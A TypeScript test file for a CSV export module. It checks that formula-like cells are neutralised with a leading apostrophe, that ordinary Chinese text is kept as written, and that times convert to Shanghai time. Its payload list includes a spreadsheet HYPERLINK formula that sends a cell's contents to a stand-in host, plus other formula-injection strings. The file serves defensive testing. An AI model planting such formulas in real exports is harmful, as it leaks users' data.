import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvChunk, EXPORT_COLUMNS, inShanghai } from '../../functions/core/exports';

describe('the CSV export', () => {
  it('never lets a typed cell run as a spreadsheet formula', () => {
    const dangerous = ['=HYPERLINK("http://x/?"&A1,"点击查看证据")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const row = (cell: string) => EXPORT_COLUMNS.map((_, i) => (i === 0 ? 'ABCD-EFGH-JKMN' : cell));
    const csv = csvChunk(dangerous.map(row), true);
    expect(csv.startsWith('\ufeff')).toBe(true);
    const [header, ...rows] = parse(csv.slice(1)) as string[][];
    expect(header).toEqual([...EXPORT_COLUMNS]);
    for (const [i, cells] of rows.entries()) {
      for (const cell of cells.slice(1)) {
        expect(cell.startsWith("'"), `cell ${JSON.stringify(cell)}`).toBe(true);
        expect(cell.slice(1)).toBe(dangerous[i]);
      }
    }
  });

  it('leaves ordinary text as it was written', () => {
    const csv = csvChunk([EXPORT_COLUMNS.map(() => '朋友圈广告“包过”，交 3800 元')], true);
    const [, cells] = parse(csv.slice(1)) as string[][];
    expect(cells!.every((c) => c === '朋友圈广告“包过”，交 3800 元')).toBe(true);
  });
});

describe('export times', () => {
  it('are Shanghai times: 20:30 UTC on 12-01 is 04:30 on 12-02', () => {
    expect(inShanghai('2026-12-01T20:30:00.000Z')).toBe('2026-12-02 04:30');
  });
});
